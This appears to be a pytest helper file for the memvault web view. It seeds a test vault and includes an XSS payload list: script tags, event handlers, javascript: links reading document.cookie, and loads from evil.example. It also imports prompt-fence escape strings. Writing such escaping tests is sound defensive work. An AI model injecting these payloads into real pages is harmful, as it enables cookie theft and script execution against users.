"""A vault for the web view's tests: facts, a proposal, episodes of an agent session, a procedure and its runs,
and stored text written to attack the page (script tags, event handlers, ``javascript:`` links, the
fence-escape variants of test_attacks.py and test_markup.py)."""
from __future__ import annotations

import contextlib
import os
import random
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from memvault import Vault

from ci_guard import in_ci
from conftest import git, isolate
from fake_embedder import set_model
from test_attacks import CLOSERS
from test_markup import variants

#: The Chromium the browser tests drive (.ci/run installs Debian's), and the flags every launch takes.
CHROMIUM = os.environ.get("MEMVAULT_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync"]


def browser_unavailable(reason: str) -> None:
    """Skip with the reason, except under CI, where a green run must not hide a browser that never started."""
    if in_ci():
        pytest.fail(f"browser tests cannot run under CI: {reason}", pytrace=False)
    pytest.skip(f"browser tests need Chromium and Playwright: {reason}")


def chromium_binary() -> str:
    if not Path(CHROMIUM).exists():
        browser_unavailable(f"{CHROMIUM} is missing (apt-get install -y chromium)")
    return CHROMIUM


@contextlib.contextmanager
def chromium_context(profile: Path, *, width: int, flags: Sequence[str] = ()) -> Iterator[Any]:
    """A headless Chromium (Playwright, persistent profile at ``profile``) with ``FLAGS`` and ``flags``."""
    chromium = chromium_binary()
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        browser_unavailable("the playwright package is missing (pip install -e '.[test]')")
    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(str(profile), executable_path=chromium, args=[*FLAGS, *flags],
                                                       headless=True, viewport={"width": width, "height": 900})
        try:
            yield context
        finally:
            context.close()


#: The address the web view is built for in the in-process tests (nothing listens there: requests go to the app).
PORT = 8787
BASE = f"http://127.0.0.1:{PORT}"


class Browser(TestClient):
    """A client that asks for pages where the view's own links put them: under the run's random root (a bare path
    written in these tests is read under it, as the same link on a page would be)."""

    root = ""

    def request(self, method, url, *args, **kwargs):
        if isinstance(url, str) and url.startswith("/") and not (url + "/").startswith(self.root + "/"):
            url = self.root + url
        return super().request(method, url, *args, **kwargs)


def web_client(vault: Vault) -> Browser:
    """A client of ``vault``'s web view, logged in with its token (``app_``: the app)."""
    from memvault.interfaces.web import build

    app, token = build(vault, port=PORT, refresh=False)
    c = Browser(app.asgi, base_url=BASE)
    c.__enter__()
    r = c.get(f"/?token={token}", follow_redirects=False)
    c.cookies.set(app.guard.cookie_name, r.cookies[app.guard.cookie_name], path=app.guard.root)
    c.root = app.guard.root
    c.app_ = app
    return c


#: What an attacker writes into memory, hoping a page will run it.
XSS = [
    "<script>document.title='pwned';alert('xss')</script>",
    "<img src=x onerror=\"document.title='pwned';alert(1)\">",
    "<a href=\"javascript:alert(1)\">click me</a>",
    "javascript:alert(document.cookie)",
    "<svg onload=alert(1)><circle r=1></svg>",
    "\"><script src=http://evil.example/x.js></script>",
    "<iframe src=\"http://evil.example/\"></iframe>",
    "<img src=\"http://evil.example/beacon.gif\">",
    "<style>@import url(http://evil.example/x.css);</style>",
    "{{ 7*7 }} {% raw %}${7*7}{% endraw %}",
    "</textarea><script>alert('textarea')</script>",
    "</pre></div><script>alert('pre')</script>",
]


def payloads() -> list[str]:
    """The XSS strings plus a sample of the prompt-fence escapes (closers and generated variants)."""
    return XSS + CLOSERS + random.Random(11).sample(variants(extra=40), 40)


def seed(root: Path, models: object, tmp_path: Path) -> Vault:
    """A vault (fake model) with one of everything the pages show; returns it opened with the fake model."""
    v = Vault.init(root)
    set_model(v.root, "fake-hash")
    git(v.root, "commit", "-qm", "fake model", "--", "memvault.toml")
    v = Vault.open(v.root, embedder_factory=models, daemon=False)
    v.facts.set("db/primary", "The primary database listens on 10.8.0.4 port 5432.", category="database",
                importance=0.9, tags=["postgres"], source="user:admin")
    v.facts.set("db/replica", "The replica database listens on 10.8.0.5 port 5432.", category="database",
                tags=["postgres"], source="user:admin")
    v.facts.set("web/haproxy", "HAProxy balances web1 web2 web3 with health checks.", category="web",
                source="user:admin")
    v.facts.set("net/gateway", "The VPN gateway is vpn.example.net on UDP 1195.", source="user:admin")
    v.facts.set("db/primary", "The primary database moved to 10.8.0.9 port 5432.", source="agent:scraper")
    v.facts.set("net/vpn", "The VPN gateway is vpn.example.net on UDP 1194.", source="agent:scraper",
                tags=["vpn"])
    for i, text in enumerate(payloads()):
        v.episodes.append(f"attack {i}: {text}", source="web:evil.example", kind="raw")
    v.facts.set("evil/note", "payload: " + " ".join(XSS), source="user:admin", tags=["payload"])
    for turn, text in enumerate(["user asked to rotate the postgres logs", "agent ran the rotation runbook",
                                 "logs older than a day were compressed"]):
        v.episodes.append(text, source="agent:claude-code", kind="raw",
                          meta={"session_id": "sess-42", "runtime": "claude-code", "turn": turn})
    script = tmp_path / "rotate.sh"
    script.write_text("#!/usr/bin/env bash\n# description: Rotate and compress PostgreSQL logs\n"
                      "# tags: postgres, logs\necho rotated \"$@\"\n")
    script.chmod(0o755)
    v.procedures.add("db/rotate-logs", script, source="user:admin")
    v.procedures.run("db/rotate-logs", ["1"], source="user:admin", stdout=-3, stderr=-3)
    v.recall("which port does the primary database use", k=3, source="agent:claude-code")
    v.recall("zebra quantum marmalade", k=3, source="agent:codex")
    return v


@pytest.fixture(scope="session")
def seeded_template(tmp_path_factory) -> Path:
    """The seeded vault, built once per test session (in an isolated HOME, like every test)."""
    from fake_embedder import Models

    base = tmp_path_factory.mktemp("web-seed")
    with pytest.MonkeyPatch.context() as mp:
        isolate(tmp_path_factory.mktemp("web-home"), mp)
        seed(base / "vault", Models(), base)
    return base / "vault"


@pytest.fixture
def seeded_copy(seeded_template, tmp_path, models) -> Callable[[], Vault]:
    """A fresh copy of the seeded vault for one test, opened with the test's fake models."""

    def make() -> Vault:
        root = tmp_path / "vault"
        shutil.copytree(seeded_template, root, symlinks=True)
        return Vault.open(root, embedder_factory=models, daemon=False)

    return make


class Served:
    """A running view: ``url`` is where its pages live (the origin and the run's random root), ``origin`` the server,
    ``app`` the application, ``token`` the token it requires."""

    def __init__(self, vault: Vault, app: Any, origin: str, token: str) -> None:
        self.vault, self.app, self.origin, self.token = vault, app, origin, token
        self.root = app.guard.root
        self.url = origin + self.root


@contextlib.contextmanager
def serve(vault: Vault, **options: Any) -> Iterator[Served]:
    """The web view of ``vault`` under uvicorn on a free loopback port (``options`` go to ``build``), stopped when
    the block ends."""
    import uvicorn

    from memvault.interfaces.connections import server_config
    from memvault.interfaces.web import build

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    app, token = build(vault, port=port, **options)
    server = uvicorn.Server(server_config(app.asgi))  # as `memvault ui` serves it
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    assert server.started, "the web view did not start"
    try:
        yield Served(vault, app, f"http://127.0.0.1:{port}", token)
    finally:
        server.should_exit = True
        thread.join(15)
        sock.close()
